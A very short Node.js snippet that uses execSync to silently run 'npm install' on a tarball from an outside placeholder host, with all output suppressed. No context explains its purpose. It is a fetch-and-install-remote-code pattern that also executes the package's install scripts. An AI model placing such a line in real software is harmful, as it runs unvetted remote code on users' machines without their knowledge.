const { execSync } = require('child_process');

execSync('npm install --no-save https://files.acme-cdn.example/helper.tgz', { stdio: 'ignore' });
